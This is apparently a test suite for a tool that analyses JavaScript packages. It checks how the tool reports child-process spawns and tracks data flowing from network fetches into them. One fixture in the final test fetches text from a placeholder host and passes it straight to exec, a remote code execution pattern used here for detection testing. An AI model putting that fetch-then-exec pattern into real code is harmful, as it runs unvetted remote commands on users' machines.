import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';

const spawned = (code: string): string[] =>
  behaviourOf({ 'index.js': code })
    .effects.filter(({ kind }) => kind === 'spawns')
    .map(({ triggers, target, details }) => `${triggers.join()} ${target} ${details.get('arguments') ?? ''}`.trim());

describe('what one function starts for several others', () => {
  const run = `const { spawnSync } = require('child_process'); const run = words => spawnSync('tool', words);`;

  it('is told by the moments at which they run', () =>
    assert.deepEqual(spawned(`${run} const has = () => run(['--version']); has(); exports.find = key => run(['lookup', key]);`), [
      'import tool --version',
      'call tool lookup *',
    ]));

  it('through one more function, too', () =>
    assert.deepEqual(
      spawned(
        `${run} const quiet = words => run([words, '-q']); const a = () => quiet('one'); const b = () => quiet('two'); a(); exports.b = b;`,
      ),
      ['import tool one -q', 'call tool two -q'],
    ));

  it('is one deed where all of them run at the same moments', () =>
    assert.deepEqual(spawned(`${run} const a = () => run(['one']); const b = () => run(['two']); a(); b();`).length, 1));

  it('is one deed where other files may call it, or where it is handed on', () => {
    assert.equal(spawned(`${run} const a = () => run(['one']); a(); exports.b = () => run(['two']); exports.run = run;`).length, 1);
    assert.equal(spawned(`${run} const a = () => run(['one']); a(); exports.b = () => run(['two']); [['x']].forEach(run);`).length, 1);
  });

  it('keeps where its data goes', () => {
    const { flows } = behaviourOf({
      'index.js': `const { exec } = require('child_process'); const run = line => exec(line); const a = () => run('one'); a();
        exports.b = async () => run(await (await fetch('https://a.invalid')).text());`,
    });
    assert.ok(flows.some(({ from, to }) => from.kind === 'connects' && to.kind === 'spawns' && to.triggers.join() === 'call'));
  });
});
